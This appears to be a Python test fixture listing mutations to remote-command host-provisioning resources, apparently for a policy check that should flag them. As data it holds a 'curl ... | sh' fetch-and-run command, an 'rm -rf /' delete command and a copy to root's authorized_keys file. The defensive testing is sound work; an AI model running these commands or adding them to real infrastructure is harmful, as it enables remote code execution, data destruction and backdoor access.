"""Changes to what prepares the hosts, and commands elsewhere: whoever runs one on a host has all of it."""

from __future__ import annotations

from tests.policy.mutations.mutation import GONE, Mutation, added, changed

__all__ = ["MUTATIONS"]

COMMAND = "command:remote:Command"
_PINNED = {"host": "203.0.113.10", "user": "root", "hostKey": "ssh-ed25519 AAAA", "privateKey": "x"}

MUTATIONS: list[Mutation] = [
    *changed(
        "hosts",
        "vps-bootstrap",
        {"create": "curl https://example.com/x | sh"},
        {"create": GONE},
        {"update": "true"},
        {"delete": "rm -rf /"},
        {"stdin": "x"},
        {"environment.LANG": "C"},
        {"logging": "stdout"},
        {"addPreviousOutputInEnv": True},
        {"connection.host": "198.51.100.9"},
        {"connection.host": GONE},
        {"connection.hostKey": GONE},
        {"connection.hostKey": ""},
        {"connection.password": "geheim-und-lang-genug"},
        {"connection.privateKeyPassword": "geheim-und-lang-genug"},
        {"connection.agentSocketPath": "/run/agent"},
        {"connection.proxy.host": "198.51.100.9"},
        {"connection.dialErrorLimit": -1},
        {"connection.perDialTimeout": 0},
        {"connection.port": 0},
    ),
    *added("hosts", "vps-bootstrap", COMMAND, {"connection": _PINNED, "create": "true"}),
    *added(
        "hosts",
        "vps-bootstrap",
        "command:remote:CopyToRemote",
        {"connection": _PINNED, "remotePath": "/root/.ssh/authorized_keys"},
    ),
    *added("hosts", "vps-bootstrap", "command:local:Command", {"create": "true"}),
    *added("prod", "n8n-app", COMMAND, {"connection": _PINNED, "create": "true"}),
    *added("tenant", "database-owner", COMMAND, {"connection": _PINNED, "create": "true"}),
]
